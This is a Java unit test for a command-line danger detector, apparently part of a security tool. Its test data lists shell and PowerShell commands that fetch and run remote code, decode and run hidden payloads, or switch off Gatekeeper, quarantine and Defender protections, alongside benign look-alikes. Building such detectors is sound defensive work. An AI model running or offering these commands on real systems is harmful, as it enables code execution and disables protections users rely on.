package dev.countersign.lure.project;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.lure.project.command.CommandLine;
import dev.countersign.lure.project.command.Danger;
import dev.countersign.lure.project.command.Dangers;
import dev.countersign.lure.project.command.Step;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Command lines that are dangerous by themselves, and those that only look so. */
class DangersTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -s https://x.example/a | sh",
        "wget -qO- x.example/a|sudo bash -s -- -y",
        "bash <(curl -fsSL https://x.example/a)",
        "sh -c \"$(wget -O- https://x.example/a)\"",
        "eval \"$(curl https://x.example/a)\"",
        "curl -o /tmp/a https://x.example/a && bash /tmp/a",
        "curl -O https://x.example/run.bin; chmod +x run.bin; ./run.bin",
        "curl -L https://x.example/s.js > s.js && node s.js",
        "powershell -c \"iex (iwr https://x.example/a)\"",
        "powershell \"(New-Object Net.WebClient).DownloadString('https://x.example/a') | IEX\"",
        "mshta https://x.example/a.hta",
        "certutil -urlcache -f https://x.example/a a.exe",
        "cmd /c curl https://x.example/w | cmd",
        "concurrently \"npm start\" \"curl https://x.example/a | node\"",
        "sh -c 'curl https://x.example/a | python3 -'"
      })
  void fetchesAndRuns(String command) {
    assertThat(Dangers.of(CommandLine.of(command))).containsExactly(Danger.FETCHED_CODE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo aGk= | base64 -d | sh",
        "powershell -nop -enc SQBFAFgA",
        "pwsh -EncodedCommand SQBFAFgA",
        "openssl enc -d -aes-256-cbc -in a | bash"
      })
  void decodesAndRuns(String command) {
    assertThat(Dangers.of(CommandLine.of(command))).containsExactly(Danger.DECODED_CODE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "xattr -d com.apple.quarantine App.app",
        "sudo xattr -cr App.app",
        "sudo spctl --master-disable",
        "powershell Add-MpPreference -ExclusionPath C:\\x"
      })
  void switchesAProtectionOff(String command) {
    assertThat(Dangers.of(CommandLine.of(command))).containsExactly(Danger.PROTECTION_OFF);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "npm run build && node dist/index.js",
        "curl https://x.example/health",
        "curl -s https://x.example/data.json | jq .name",
        "curl -s https://x.example/data.json | node scripts/import.js",
        "curl -s https://x.example/v.json | python3 -m json.tool",
        "wget https://x.example/data.csv && python3 load.py",
        "echo 'curl https://x.example/a | sh'",
        "cat a.sh | sh",
        "base64 -d < a > b",
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        "xattr -l App.app",
        "git commit -m \"fix; curl x | y\""
      })
  void isOrdinary(String command) {
    assertThat(Dangers.of(CommandLine.of(command))).isEmpty();
  }

  @Test
  void aLineIsCutAsAShellCutsIt() {
    assertThat(
            CommandLine.of("cross-env A=1 node -r 'a b' \"x y\".js && FOO=2 sudo sh z.sh | tee o")
                .steps())
        .extracting(Step::words)
        .containsExactly(
            java.util.List.of("node", "-r", "a b", "x y.js"),
            java.util.List.of("sh", "z.sh"),
            java.util.List.of("tee", "o"));
  }

  @Test
  void aLineWithoutEndIsCutToo() {
    assertThat(CommandLine.of("$(".repeat(60_000)).all()).hasSizeLessThan(10_000);
  }
}
